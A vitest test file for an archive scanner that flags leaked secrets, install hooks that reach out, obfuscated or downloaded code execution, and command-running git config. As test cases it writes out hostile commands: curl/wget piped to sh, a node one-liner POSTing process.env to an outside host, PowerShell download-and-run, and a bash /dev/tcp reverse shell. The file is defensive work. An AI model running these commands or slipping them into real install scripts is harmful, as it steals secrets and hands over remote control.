import { generateKeyPairSync, randomBytes, randomUUID } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/config.js';
import { bytecodeMagic, GitConfigLines, pathFinding } from '../../src/scan/binaries.js';
import { FileCode } from '../../src/scan/code-rules.js';
import { FileInstall, hookKind } from '../../src/scan/install-hooks.js';
import { scanArchive } from '../../src/scan/scan-archive.js';
import { scanLimits } from '../../src/domain/scan/scan-job.js';
import { FileSecrets, findSecret, HARDHAT_ACCOUNT_KEYS } from '../../src/scan/secrets.js';
import { tarGzOf, uniqueProject, zipOf, type Files } from '../helpers/archives.js';
import { devKey, freshKey } from '../helpers/wallet-secrets.js';
import { token } from '../scan-corpus/content-variants.js';

const limits = scanLimits(loadConfig({}));

/** Scans a real project plus `extra` as zip and as tar.gz; both must agree. */
async function scan(extra: Files) {
  const files = { ...uniqueProject(), ...extra };
  const zip = await scanArchive(zipOf(files), 'zip', limits);
  const tgz = await scanArchive(await tarGzOf(files), 'tar.gz', limits);
  expect(tgz).toEqual({ ...zip, stats: tgz.stats });
  return zip;
}

/** The first hit of FileSecrets' line rules, as the inspector asks them. */
function secretOf(path: string, text: string) {
  const f = new FileSecrets(path);
  const lines = text.split('\n');
  for (let i = 0; i < lines.length; i++) {
    const line = lines[i]!;
    const hit =
      f.tokenLine(line, i + 1) ??
      (line.includes('://') ? f.urlLine(line, i + 1) : undefined) ??
      (f.realEnv ? f.envLine(line, i + 1) : undefined);
    if (hit) return hit;
  }
  return undefined;
}

const bare = () => freshKey().slice(2);
const AWS_ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';

describe('secret:wallet_key — 64-hex keys without 0x', () => {
  it.each([
    ['.env', () => `PRIVATE_KEY=${bare()}`],
    ['.env.staging', () => `DEPLOYER=${bare()}`],
    ['scripts/deploy.sh', () => `export PRIVATE_KEY=${bare()}`],
    ['config/chain.yaml', () => `  private_key: ${bare()}`],
    ['config/chain.toml', () => `signer_key = "${bare()}"`],
    ['src/wallet.ts', () => `const privateKey = '${bare()}';`],
    ['keys/deployer.key', () => bare()],
  ])('%s', (path, make) => {
    expect(secretOf(path, make())).toMatchObject({
      rule: 'secret:wallet_key',
      kind: 'evm_private_key',
    });
  });

  it.each([
    [
      'the 20 Hardhat/Anvil keys in .env',
      '.env',
      HARDHAT_ACCOUNT_KEYS.map((k, i) => `KEY_${i}=${k}`).join('\n'),
    ],
    ['a sha256 under a hash name', '.env', `CONFIG_SHA256=${randomBytes(32).toString('hex')}`],
    ['an HMAC test vector under `key` in code', 'test/hmac.test.js', `  key: '${bare()}',`],
    ['an example in a comment', 'src/sign.ts', ` * const privateKey = '${bare()}';`],
    ['an example in docs', 'README.md', `const privateKey = '${bare()}';`],
    ['a checksum in a lockfile', 'Cargo.lock', `checksum = "${bare()}"`],
    ['a storage slot', 'src/Proxy.sol', `bytes32 internal constant _SLOT = 0x${bare()};`],
  ])('not: %s', (_, path, text) => {
    expect(secretOf(path, text)).toBeUndefined();
  });

  it('the Hardhat list is the one derived from `test … junk`', () => {
    expect(HARDHAT_ACCOUNT_KEYS).toHaveLength(20);
    for (const i of [0, 7, 19]) expect('0x' + HARDHAT_ACCOUNT_KEYS[i]).toBe(devKey(i));
  });
});

describe('secret:named_value — values under secret names', () => {
  // The old name patterns tried every split of a line of keywords and spaces (a 12 KB line took
  // 19 s, a 64 KiB one minutes): with them this test dies on vitest's timeout instead of passing.
  it.each([
    ['config/app.yml', 'token'.repeat(6_000) + ' '.repeat(6_000) + '!'],
    ['src/keys.ts', 'token'.repeat(13_000) + '!'],
  ])('a hostile line of secret names in %s is judged without backtracking', (path, line) => {
    expect(line.length).toBeGreaterThan(12_000);
    expect(secretOf(path, line)).toBeUndefined();
  });

  it.each([
    ['.env', 'DB_PASSWORD=Harbor42!maple', 'password'],
    ['.env.production', 'export SMTP_PASS="tr0ub4dor&3"', 'password'],
    ['.env', 'MAPS_API_KEY=AbC123xyz789QrS', 'api_key'],
    ['.env', 'SESSION_SECRET=8f2kD0qP3mZ', 'secret'],
    ['config/oauth.yml', `  client_secret: ${token(40)}`, 'high_entropy_token'],
    ['ci/release.sh', `export RELEASE_TOKEN=${token(32)}`, 'high_entropy_token'],
    ['Dockerfile', `ENV SERVICE_TOKEN ${token(32)}`, 'high_entropy_token'],
    ['src/jwt.ts', `const JWT_SECRET = '${token(44)}';`, 'high_entropy_token'],
  ])('%s: %s', (path, text, kind) => {
    expect(secretOf(path, text)).toMatchObject({ rule: 'secret:named_value', kind });
  });

  it.each([
    ['.env.example', 'DB_PASSWORD=Harbor42!maple'],
    ['.env', 'DB_PASSWORD=changeme'],
    ['.env', 'API_KEY=<your-key>'],
    ['.env', 'SESSION_SECRET=xxx'],
    ['.env', 'GITHUB_TOKEN=${GITHUB_TOKEN}'],
    ['.env', 'POSTGRES_PASSWORD=postgres'],
    ['.env', 'PASSWORD_MIN_LENGTH=12'],
    ['.env', 'TOKEN_TTL_SECONDS=3600'],
    ['.env', 'JWT_SECRET_FILE=/run/secrets/jwt'],
    ['.env', 'AUTH_TOKEN_HEADER=x-auth-token'],
    ['docker-compose.yml', '      JWT_SECRET: ${JWT_SECRET}'],
    [
      'src/config.ts',
      'const TOKEN_COLLECTOR_ADDRESS = "0x0E3dF9510de65469C4518D7843919c0b8C7A7757";',
    ],
    ['config/app.yml', `  token: someValueWithoutDigits`],
    ['src/api.ts', `const token = getAccessTokenFromStorage2(user);`],
  ])('not: %s: %s', (path, text) => {
    expect(secretOf(path, text)).toBeUndefined();
  });
});

describe('secret:url_credentials — passwords inside connection URLs', () => {
  it.each([
    [
      '.env',
      `DATABASE_URL=postgres://app:${token(16)}@db.acme.io:5432/app`,
      'postgres_url_password',
    ],
    [
      'app/settings.py',
      `URI = "mysql+pymysql://root:${token(12)}@10.0.0.7/shop"`,
      'mysql_url_password',
    ],
    [
      'src/db.js',
      `const u = 'mongodb+srv://admin:${token(14)}@c0.x.mongodb.net/app';`,
      'mongodb_url_password',
    ],
    ['compose.yml', `REDIS_URL: redis://:${token(20)}@cache.acme.net:6379`, 'redis_url_password'],
    [
      'queue.toml',
      `url = "amqps://orders:${token(15)}@rabbit.acme.cloud/orders"`,
      'amqps_url_password',
    ],
    [
      'scripts/push.sh',
      `git push https://bot:${token(20)}@git.acme.io/acme/shop.git`,
      'https_url_password',
    ],
  ])('%s', (path, text, kind) => {
    expect(secretOf(path, text)).toMatchObject({ rule: 'secret:url_credentials', kind });
  });

  it.each([
    'DATABASE_URL=postgres://postgres:postgres@localhost:5432/app',
    'AMQP_URL=amqp://guest:guest@rabbitmq:5672',
    'DATABASE_URL=postgres://user:password@host:5432/db',
    'MONGO_URL=mongodb+srv://<user>:<password>@cluster0.example.mongodb.net/app',
    'DATABASE_URL=postgres://${DB_USER}:${DB_PASS}@db:5432/app',
    'url.parse("https://anonymous:flabada@developer.mozilla.org/docs")',
    'REDIS_URL=redis://localhost:6379',
  ])('not: %s', (text) => {
    expect(secretOf('config/app.env.example', text)).toBeUndefined();
    expect(secretOf('src/db.ts', text)).toBeUndefined();
  });
});

describe('secret:token and secret:npmrc_auth — vendor formats', () => {
  it.each([
    [`xoxb-123456789012-123456789012-${token(24)}`, 'slack_token'],
    [
      `https://hooks.slack.com/services/T0${token(8, AWS_ALPHABET)}/B0${token(8, AWS_ALPHABET)}/${token(24)}`,
      'slack_webhook',
    ],
    [`sk_live_${token(24)}`, 'stripe_live_key'],
    [`rk_live_${token(24)}`, 'stripe_live_key'],
    [`ghp_${token(36)}`, 'github_token'],
    [`gho_${token(36)}`, 'github_token'],
    [`ghs_${token(36)}`, 'github_token'],
    [`github_pat_${token(22)}_${token(59)}`, 'github_token'],
    [`sk-proj-${token(48)}`, 'openai_style_key'],
    [`sk-${token(48)}`, 'openai_style_key'],
    [`AIza${token(35)}`, 'google_api_key'],
    [`npm_${token(36)}`, 'npm_token'],
    [`AKIA${token(16, AWS_ALPHABET)}`, 'aws_access_key_id'],
    [`aws_secret_access_key = ${token(40)}`, 'aws_secret_access_key'],
  ])('%s', (value, kind) => {
    expect(findSecret(`value = "${value}"`)).toMatchObject({ kind });
  });

  it('not: a prefix that happens to occur inside a longer base64url run (random data, a hash)', () => {
    // base64url's alphabet has `-`, so `\b` alone let "-sk-…" inside a blob read as a key
    for (const prefix of ['sk-', 'sk-proj-', 'glpat-', 'xoxb-']) {
      const blob = `${token(40)}-${prefix}${token(48)}-${token(40)}`;
      expect(findSecret(`readme ${blob}`)).toBeUndefined();
      expect(findSecret(`key: ${prefix}${token(48)}`)).toBeDefined();
    }
  });

  it('.npmrc auth tokens, but not a variable', () => {
    expect(secretOf('.npmrc', `//registry.npmjs.org/:_authToken=${randomUUID()}`)).toMatchObject({
      rule: 'secret:npmrc_auth',
    });
    expect(secretOf('.npmrc', '//registry.npmjs.org/:_authToken=${NPM_TOKEN}')).toBeUndefined();
  });

  it.each([
    'AKIAIOSFODNN7EXAMPLE',
    'sk_test_4eC39HqLyjWDarjtT1zdp7dc',
    'sk-your-openai-key-goes-here-xxxxxxxxxxxxxxxx',
    'npm_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa',
  ])('not: %s', (value) => {
    expect(findSecret(`value = "${value}"`)).toBeUndefined();
  });
});

describe('secret:private_key_block', () => {
  it.each([
    ['-----BEGIN OPENSSH PRIVATE KEY-----', 'ssh_private_key'],
    ['-----BEGIN RSA PRIVATE KEY-----', 'private_key'],
    ['-----BEGIN PRIVATE KEY-----', 'private_key'],
    ['-----BEGIN EC PRIVATE KEY-----', 'private_key'],
    ['-----BEGIN PGP PRIVATE KEY BLOCK-----', 'pgp_private_key'],
    ['PuTTY-User-Key-File-3: ssh-ed25519', 'putty_private_key'],
    ['"private_key": "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBg…', 'private_key'],
  ])('%s', (line, kind) => {
    expect(findSecret(line)).toEqual({ rule: 'secret:private_key_block', kind });
  });

  it('not: public keys, or code that looks for a header', () => {
    expect(findSecret('-----BEGIN PUBLIC KEY-----')).toBeUndefined();
    expect(findSecret('-----BEGIN PGP PUBLIC KEY BLOCK-----')).toBeUndefined();
    expect(
      findSecret('if (pem.indexOf("-----BEGIN PRIVATE KEY-----") !== 0) throw e;'),
    ).toBeUndefined();
  });
});

describe('secret:private_key_block: JSON Web Keys with their private part', () => {
  const ec = () =>
    generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ format: 'jwk' });
  const rsa = () =>
    generateKeyPairSync('rsa', { modulusLength: 1024 }).privateKey.export({ format: 'jwk' });
  const ed = () => generateKeyPairSync('ed25519').privateKey.export({ format: 'jwk' });
  const oct = () => ({ kty: 'oct', k: randomBytes(32).toString('base64url'), alg: 'HS256' });
  const hit = { rule: 'secret:private_key_block', kind: 'jwk_private_key' };
  const sorted = (o: object) =>
    Object.fromEntries(Object.entries(o).sort(([a], [b]) => a.localeCompare(b)));

  it.each([
    ['an EC key, pretty-printed', 'keys/signing.json', () => JSON.stringify(ec(), null, 2)],
    [
      'an EC key, members sorted (d before kty)',
      'key.json',
      () => JSON.stringify(sorted(ec()), null, 2),
    ],
    ['an RSA key, pretty-printed', 'jwk.json', () => JSON.stringify(rsa(), null, 2)],
    [
      'an Ed25519 key on one line',
      'src/key.ts',
      () => `export const key = ${JSON.stringify(ed())};`,
    ],
    ['a symmetric key', 'config/hmac.json', () => JSON.stringify(oct(), null, 2)],
    [
      'a JWKS holding a private key',
      '.well-known/jwks.json',
      () => JSON.stringify({ keys: [ec()] }, null, 2),
    ],
    [
      'a JavaScript literal',
      'src/sign.js',
      () => {
        const k = ec();
        return `const jwk = {\n  kty: 'EC',\n  crv: 'P-256',\n  x: '${k.x}',\n  y: '${k.y}',\n  d: '${k.d}',\n};`;
      },
    ],
    [
      'escaped inside a JSON string',
      'deploy/values.json',
      () => JSON.stringify({ SIGNING_JWK: JSON.stringify(ec()) }),
    ],
  ])('%s', (_, path, text) => {
    expect(secretOf(path, text())).toMatchObject(hit);
  });

  it('in a scanned archive: the key file is refused, its public JWKS passes', async () => {
    const key = sorted(ec());
    const refused = await scan({ 'config/keys.json': JSON.stringify({ keys: [key] }, null, 2) });
    expect(refused).toMatchObject({
      verdict: 'reject',
      findings: [
        {
          check: 'secret:private_key_block',
          detail: 'jwk_private_key',
          file: expect.stringContaining('config/keys.json'),
          line: 5,
        },
      ],
    });
    const { d: _d, ...publicKey } = key;
    const passed = await scan({
      'config/keys.json': JSON.stringify({ keys: [publicKey] }, null, 2),
    });
    expect(passed).toMatchObject({ verdict: 'accept' });
  });

  it('not: public keys and JWKS, placeholders, a d of something else', () => {
    const { d: _d, ...publicEc } = ec();
    const { d: _rd, p: _p, q: _q, dp: _dp, dq: _dq, qi: _qi, ...publicRsa } = rsa();
    expect(
      secretOf('jwks.json', JSON.stringify({ keys: [publicEc, publicRsa] }, null, 2)),
    ).toBeUndefined();
    expect(
      secretOf(
        'key.json',
        JSON.stringify(
          { kty: 'EC', crv: 'P-256', d: 'YOUR_PRIVATE_KEY_HERE_XXXXXXXXXXXX' },
          null,
          2,
        ),
      ),
    ).toBeUndefined();
    // an SVG path's d and an RSA public key's lines far apart
    expect(
      secretOf(
        'icons.json',
        [
          JSON.stringify(publicEc),
          ...Array.from({ length: 20 }, (_, i) => `"n${i}": ${i},`),
          `{"d": "${randomBytes(32).toString('base64url')}"}`,
        ].join('\n'),
      ),
    ).toBeUndefined();
    // an EC key's type with a symmetric key's member is not a key
    expect(
      secretOf('x.json', JSON.stringify({ kty: 'EC', k: randomBytes(32).toString('base64url') })),
    ).toBeUndefined();
  });
});

describe('UTF-16 and stray-NUL text is decoded and scanned', () => {
  const key = () => `PRIVATE_KEY=${bare()}\r\n`;
  const le = (s: string) => Buffer.from(s, 'utf16le');
  const be = (s: string) => Buffer.from(s, 'utf16le').swap16();
  it.each([
    ['UTF-16LE with BOM', (s: string) => le('\ufeff' + s)],
    ['UTF-16LE without BOM', le],
    ['UTF-16BE with BOM', (s: string) => be('\ufeff' + s)],
    ['UTF-16BE without BOM', be],
    ['a stray NUL', (s: string) => Buffer.from('# settings\0\n' + s)],
  ])('%s: the finding names the line of the decoded text', async (name, encode) => {
    const out = await scan({ 'deploy/.env': encode(`APP=shop\r\nREGION=eu\r\n${key()}`) });
    expect(out).toMatchObject({
      verdict: 'reject',
      findings: [
        {
          check: 'secret:wallet_key',
          file: 'deploy/.env',
          line: name === 'a stray NUL' ? 4 : 3,
          detail: 'evm_private_key',
        },
      ],
    });
  });

  it('UTF-16 split across chunks at an odd byte still decodes (a 200 KiB file)', async () => {
    const lines = Array.from({ length: 6000 }, (_, i) => `value_${i} = ${i * 7}`);
    lines.push(`token = "ghp_${token(36)}"`);
    const out = await scan({
      'config/big.ini': Buffer.from('\ufeff' + lines.join('\r\n') + '\r\n', 'utf16le'),
    });
    expect(out).toMatchObject({
      verdict: 'reject',
      findings: [
        { check: 'secret:token', file: 'config/big.ini', line: 6001, detail: 'github_token' },
      ],
    });
  });

  it('binary data with NULs stays binary (not scanned, not refused)', async () => {
    const png = Buffer.concat([
      Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
      randomBytes(2000),
      Buffer.from(`\nPRIVATE_KEY=${bare()}\n`),
    ]);
    expect(await scan({ 'assets/logo.png': png })).toMatchObject({ verdict: 'accept' });
  });
});

describe('install:npm_hook — lifecycle scripts that reach out', () => {
  it.each([
    ['curl -fsSL http://x.io/s.sh | sh', 'download_and_execute'],
    ['wget -qO- http://x.io/i | bash', 'download_and_execute'],
    ['curl -so /tmp/x http://x.io/b && chmod +x /tmp/x && /tmp/x', 'download_and_execute'],
    ['curl http://x.io/beacon?h=$(hostname)', 'download'],
    [
      `node -e "fetch('http://x.io',{method:'POST',body:JSON.stringify(process.env)})"`,
      'inline_network_code',
    ],
    [`node -e "require('https').get('https://x.io/p')"`, 'inline_network_code'],
    [
      `python3 -c "import urllib.request;urllib.request.urlopen('http://x.io')"`,
      'inline_network_code',
    ],
    ['powershell -c "iwr http://x.io/a.ps1 | iex"', 'powershell'],
    ['powershell -enc SQBFAFgA', 'powershell'],
    ['echo Y3VybCB4fHNo | base64 -d | sh', 'encoded_payload'],
    ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', 'reverse_shell'],
  ])('%s', (cmd, kind) => {
    expect(hookKind(cmd)).toBe(kind);
  });

  it.each([
    'node scripts/build.js',
    'husky',
    'husky install',
    'node-gyp rebuild',
    'prebuild-install || node-gyp rebuild',
    'npx only-allow pnpm',
    'npm run build && npm test',
    'patch-package',
    `node -e "require('fs').mkdirSync('dist',{recursive:true})"`,
  ])('not: %s', (cmd) => {
    expect(hookKind(cmd)).toBeUndefined();
  });

  it('only lifecycle scripts count: a `fetch` script with curl passes', () => {
    const f = new FileInstall('npm_manifest');
    expect(
      f.line('    "fetch": "curl -fsSL https://x.io/data.json -o data.json",'),
    ).toBeUndefined();
    expect(f.line('    "postinstall": "curl -fsSL https://x.io/s | sh",')).toEqual({
      rule: 'install:npm_hook',
      kind: 'postinstall_download_and_execute',
    });
  });

  it('through the scan: the line of the hook in package.json', async () => {
    const pkg = JSON.stringify(
      {
        name: 'x',
        version: '1.0.0',
        scripts: { test: 'vitest', preinstall: 'wget -qO- http://203.0.113.9/i | sh' },
      },
      null,
      2,
    );
    const out = await scan({ 'package.json': pkg });
    expect(out).toMatchObject({
      verdict: 'reject',
      findings: [
        {
          check: 'install:npm_hook',
          file: 'package.json',
          line: 6,
          detail: 'preinstall_download_and_execute',
        },
      ],
    });
  });
});

describe('install:python_build and install:import_hook', () => {
  it.each([
    ['python_build', 'urllib.request.urlopen("http://x.io/b")', 'network'],
    ['python_build', '        os.system("curl -s http://x.io/p | sh")', 'download_command'],
    ['python_build', 'data = requests.get(URL).text', 'network'],
    ['python_build', '        urlretrieve("http://x.io/n.so", "/tmp/n.so")', 'network'],
    ['python_init', 'urllib.request.urlopen("http://x.io/i")', 'network'],
  ] as const)('%s: %s', (kind, line, what) => {
    const hit = new FileInstall(kind).line(line.trimStart(), line !== line.trimStart());
    expect(hit).toMatchObject({ kind: what });
  });

  it.each([
    ['python_build', 'exec(open("pkg/version.py").read(), about)'],
    ['python_build', '    return subprocess.check_output(["git", "rev-parse", "HEAD"]).decode()'],
    ['python_build', '# urllib.request.urlopen("http://x.io") is not called'],
    ['python_build', 'import urllib.request'],
    ['python_init', '    return urllib.request.urlopen(url).read()'],
  ] as const)('not: %s: %s', (kind, line) => {
    expect(new FileInstall(kind).line(line.trimStart(), line !== line.trimStart())).toBeUndefined();
  });
});

describe('code:exec_* — evaluation of decoded, escaped or downloaded code', () => {
  const b64 = (s: string) => Buffer.from(s).toString('base64');
  it.each([
    [`eval(atob('${b64('alert(1)')}'))`, 'code:exec_decoded', 'eval'],
    [
      `new Function(Buffer.from('${b64('x()')}', 'base64').toString())()`,
      'code:exec_decoded',
      'Function',
    ],
    [`eval(String.fromCharCode(97,108,101,114,116))`, 'code:exec_decoded', 'eval'],
    [`exec(base64.b64decode("${b64('import os')}"))`, 'code:exec_decoded', 'exec'],
    [`exec(bytes.fromhex("696d706f7274206f73").decode())`, 'code:exec_decoded', 'exec'],
    [`exec(marshal.loads(b'\\xe3\\x00'))`, 'code:exec_decoded', 'exec'],
    [`exec(zlib.decompress(base64.b64decode('eJw=')))`, 'code:exec_decoded', 'exec'],
    [
      `__import__('os').system(__import__('base64').b64decode('Y3VybA==').decode())`,
      'code:exec_decoded',
      'system',
    ],
    [`exec(''.join(chr(c) for c in [105, 109]))`, 'code:exec_decoded', 'exec'],
    [`eval("${'\\x61'.repeat(20)}")`, 'code:exec_encoded', 'eval'],
    [`execSync('curl -s http://x.io/u | bash')`, 'code:exec_download', 'execSync'],
    [`subprocess.run("wget -qO- http://x.io/i | sh", shell=True)`, 'code:exec_download', 'run'],
    [`exec(urlopen("http://x.io/p.py").read())`, 'code:exec_remote', 'exec'],
  ])('%s', (line, rule, kind) => {
    expect(new FileCode().line(line)).toEqual({ rule, kind });
  });

  it('a name assigned from a decoding call, evaluated lines later', () => {
    const f = new FileCode();
    expect(f.line(`const body = Buffer.from(cfg, 'base64').toString('utf8');`)).toBeUndefined();
    expect(f.everyLine).toBe(true);
    expect(f.line('  eval(body);')).toEqual({ rule: 'code:exec_decoded', kind: 'eval' });
  });

  it.each([
    'const m = re.exec(atob(value));',
    'fn.call(this, Buffer.from(s, "base64"));',
    'const n = Function("return this")(), r = n.atob ? (e) => n.atob(e) : null;',
    'eval("/* module */ var a = 1;\\n//# sourceMappingURL=data:application/json;base64,' +
      'A'.repeat(300) +
      '")',
    'return base64.b64decode(value).decode()',
    'exec(open("pkg/version.py").read(), about)',
    'child_process.execSync("git rev-parse HEAD")',
    'os.system("make -C native")',
    'const decoded = atob(token); render(decoded);',
  ])('not: %s', (line) => {
    expect(new FileCode().line(line)).toBeUndefined();
  });
});

describe('git_hook, git_config_exec, bytecode', () => {
  it.each([
    ['.git/hooks/post-checkout', 'git_hook'],
    ['repo/.git/hooks/pre-commit', 'git_hook'],
    ['pkg/__pycache__/mod.cpython-312.pyc', 'bytecode'],
    ['Main.class', 'bytecode'],
    ['app.jar', 'bytecode'],
    ['vendor/lib.jar!/com/x/A.class', undefined],
    ['test/fixtures/json.jar', undefined],
    ['gradle/wrapper/gradle-wrapper.jar', undefined],
    ['libs/guava.jar', undefined],
    ['.git/hooks/pre-commit.sample', undefined],
    ['app.jar!/com/x/A.class', 'bytecode'],
  ])('%s', (path, check) => {
    expect(pathFinding(path)?.check).toBe(check);
  });

  it('magic bytes, whatever the extension', () => {
    const pyc = Buffer.from([0xcb, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0]);
    const cls = Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x41]);
    expect(bytecodeMagic(pyc, 'notes.txt')).toBe('pyc');
    expect(bytecodeMagic(cls, 'data.bin')).toBe('java_class');
    expect(bytecodeMagic(cls, 'libs/x.jar!/A.class')).toBeUndefined();
    expect(bytecodeMagic(Buffer.from('hello world\n'), 'a.txt')).toBeUndefined();
  });

  it('.git/config keys that run a command', () => {
    const core = () => {
      const c = new GitConfigLines();
      c.line('[core]');
      return c;
    };
    expect(core().line('\tfsmonitor = "curl x | sh"')).toBe('core.fsmonitor');
    expect(core().line('\thooksPath = .githooks')).toBe('core.hookspath');
    expect(core().line('\tsshCommand = ssh -i key')).toBe('core.sshcommand');
    expect(core().line('\trepositoryformatversion = 0')).toBeUndefined();
    const remote = new GitConfigLines();
    remote.line('[remote "origin"]');
    expect(remote.line('\turl = https://github.com/a/b.git')).toBeUndefined();
  });

  it('a vendored jar under test/ passes with its classes; one at the root is refused', async () => {
    const jar = zipOf({
      'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\n',
      'com/acme/A.class': Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34, 1, 2, 3]),
    });
    expect(await scan({ 'test/fixtures/acme.jar': jar })).toMatchObject({ verdict: 'accept' });
    const refused = await scan({ 'acme.jar': jar });
    expect(refused).toMatchObject({
      verdict: 'reject',
      findings: [
        { check: 'bytecode', file: 'acme.jar', detail: 'jar_outside_vendor_folder' },
        { check: 'bytecode', file: 'acme.jar!/com/acme/A.class', detail: 'java_class' },
      ],
    });
    if (refused.verdict === 'reject') expect(refused.findings).toHaveLength(2);
  });
});

describe('findings never carry the value', () => {
  it('one archive with a secret of every kind: no finding holds any of them', async () => {
    const values = [bare(), `ghp_${token(36)}`, token(18), `npm_${token(36)}`, token(40)];
    const out = await scan({
      '.env': `PRIVATE_KEY=${values[0]}\nDB_PASSWORD=${values[2]}\n`,
      'src/a.ts': `const t = '${values[1]}';\n`,
      '.npmrc': `//registry.npmjs.org/:_authToken=${values[3]}\n`,
      'config/app.yml': `client_secret: ${values[4]}\n`,
      'src/db.ts': `const u = 'postgres://app:${values[2]}@db.acme.io/app';\n`,
    });
    expect(out.verdict).toBe('reject');
    const text = JSON.stringify(out);
    for (const v of values) expect(text).not.toContain(v.slice(0, 12));
  });
});
